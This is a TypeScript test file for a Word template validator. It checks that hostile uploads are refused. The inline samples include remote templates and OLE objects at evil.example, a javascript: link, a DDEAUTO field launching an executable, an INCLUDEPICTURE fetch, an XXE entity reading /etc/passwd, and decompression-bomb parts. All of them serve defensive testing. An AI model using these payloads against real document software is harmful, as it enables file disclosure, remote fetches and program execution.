import { randomBytes } from 'node:crypto';
import { type ErrorCode, errorMessage } from '@diyar/contract/errors';
import { expect, test } from 'vitest';
import { type DocxParts, docxOf } from '../../../testing/docx.ts';
import { zipOf } from '../../../testing/zip.ts';
import { checkDocx, fillDocx } from './in-turn.ts';

const BODY = '<w:p><w:r><w:t>{price}</w:t></w:r></w:p>';
const docx = (parts: Partial<DocxParts> = {}) => docxOf({ body: BODY, ...parts });
const relation = (type: string, target: string, more = 'TargetMode="External"') =>
  `<Relationship Id="x1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/${type}" Target="${target}" ${more}/>`;
const field = (...code: string[]) =>
  `<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r>${code
    .map((part) => `<w:r><w:instrText xml:space="preserve">${part}</w:instrText></w:r>`)
    .join('')}<w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>`;

/** The code of the refusal, which has a sentence in both languages; null where it is taken. */
async function refusalOf(bytes: Buffer): Promise<string | null> {
  try {
    await checkDocx(1, bytes, 'en');
    return null;
  } catch (error) {
    return (error as { code: string }).code;
  }
}

const encrypted = () => {
  const bytes = Buffer.from(docx());
  for (let at = bytes.indexOf('PK\x01\x02'); at >= 0; at = bytes.indexOf('PK\x01\x02', at + 4))
    bytes.writeUInt16LE(bytes.readUInt16LE(at + 8) | 1, at + 8);
  return bytes;
};

const HOSTILE: [name: string, refused: string, bytes: () => Buffer][] = [
  ['a renamed PDF', 'templateIsPdf', () => Buffer.from('%PDF-1.7\n%âãÏÓ\n1 0 obj')],
  [
    'an old .doc, or one with a password',
    'templateLocked',
    () => Buffer.from([0xd0, 0xcf, 0x11, 0xe0, 0xa1, 0xb1, 0x1a, 0xe1]),
  ],
  ['an encrypted archive', 'templateLocked', encrypted],
  ['macros', 'templateMacros', () => docx({ more: { 'word/vbaProject.bin': 'x' } })],
  [
    'a .docm that is called .docx',
    'templateMacros',
    () =>
      docx({
        types:
          '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"><Override PartName="/word/document.xml" ContentType="application/vnd.ms-word.document.macroEnabled.main+xml"/></Types>',
      }),
  ],
  [
    'a template that is fetched',
    'templateOutside',
    () => docx({ relations: relation('attachedTemplate', 'https://evil.example/x.dotm') }),
  ],
  [
    'a picture that is fetched',
    'templateOutside',
    () => docx({ relations: relation('image', '\\\\evil.example\\share\\x.png') }),
  ],
  [
    'an object that is fetched',
    'templateEmbeds',
    () => docx({ relations: relation('oleObject', 'https://evil.example/x') }),
  ],
  ['a frame', 'templateOutside', () => docx({ relations: relation('frame', 'https://evil.example/', '') })],
  [
    'a link that runs',
    'templateOutside',
    () => docx({ relations: relation('hyperlink', 'javascript:alert(1)') }),
  ],
  [
    'another document inside',
    'templateEmbeds',
    () => docx({ relations: relation('aFChunk', 'chunk.html', '') }),
  ],
  [
    'a field that starts a program, cut into runs',
    'templateOutside',
    () => docx({ body: field(' DD', 'EAUTO c:\\\\x.exe') }),
  ],
  [
    'a field that fetches a picture',
    'templateOutside',
    () => docx({ body: '<w:p><w:fldSimple w:instr=" INCLUDEPICTURE &quot;http://evil&quot; "/></w:p>' }),
  ],
  [
    'entities',
    'templateDamaged',
    () =>
      docx({
        more: {
          'word/document.xml':
            '<?xml version="1.0"?><!DOCTYPE w [<!ENTITY x SYSTEM "file:///etc/passwd">]><w:document><w:body>&x;</w:body></w:document>',
        },
      }),
  ],
  [
    'another encoding',
    'templateDamaged',
    () =>
      docx({
        more: { 'word/document.xml': Buffer.from('\uFEFF<?xml version="1.0"?><w:document/>', 'utf16le') },
      }),
  ],
  [
    'a part that inflates',
    'templateExpands',
    () => docx({ more: { 'word/media/x.png': Buffer.alloc(70 * 1024 * 1024) } }),
  ],
  [
    'text that inflates',
    'templateExpands',
    () => docx({ more: { 'word/document.xml': Buffer.alloc(20 * 1024 * 1024, ' ') } }),
  ],
  [
    'two parts of one name',
    'templateDamaged',
    () => docx({ more: { 'WORD/document.xml': '<w:document/>' } }),
  ],
  [
    'too many parts',
    'templateExpands',
    () => docx({ more: Object.fromEntries(Array.from({ length: 1100 }, (_, i) => [`word/x${i}.bin`, 'x'])) }),
  ],
  [
    'more than ten megabytes',
    'templateExpands',
    () => docx({ more: { 'word/media/x.png': randomBytes(11 * 1024 * 1024) } }),
  ],
  ['half an archive', 'templateDamaged', () => docx().subarray(0, 700)],
  ['a workbook', 'templateNotWord', () => docx({ types: '<Types/>' })],
  [
    'another archive',
    'templateNotWord',
    () => zipOf(null, undefined, { add: { 'a.txt': Buffer.from('x') } }),
  ],
  ['text', 'templateNotWord', () => Buffer.from('Dear Sir')],
  [
    'tags that do not end',
    'templateDamaged',
    () => docx({ more: { 'word/document.xml': '<w:document><w:body>' } }),
  ],
  [
    'a hundred thousand tags within each other',
    'templateDamaged',
    () => docx({ body: '<w:p>'.repeat(100_000) + '</w:p>'.repeat(100_000) }),
  ],
];

test.for(HOSTILE)('%s is refused', async ([, refused, bytes]) => {
  expect(await refusalOf(bytes())).toBe(refused);
  for (const lang of ['en', 'ar'] as const) expect(errorMessage(refused as ErrorCode, lang)).toBeTruthy();
});

test('links that somebody may press, and fields that fetch nothing, are taken', async () => {
  const relations = relation('hyperlink', 'https://diyar.example/');
  const body = `${BODY}${field(' PAGE ')}${field('HYPERLINK "https://diyar.example/"')}`;
  expect(await refusalOf(docx({ relations, body }))).toBeNull();
});

test('nothing of a broken file reaches who waits behind it', async () => {
  const broken = fillDocx(1, Buffer.from('PK\x03\x04broken'), {
    fields: {},
    loops: { buyers: [], units: [], plan: [] },
    isSet: {},
  });
  await expect(broken).rejects.toMatchObject({ code: 'templateDamaged' });
  expect(await refusalOf(docx())).toBeNull();
});
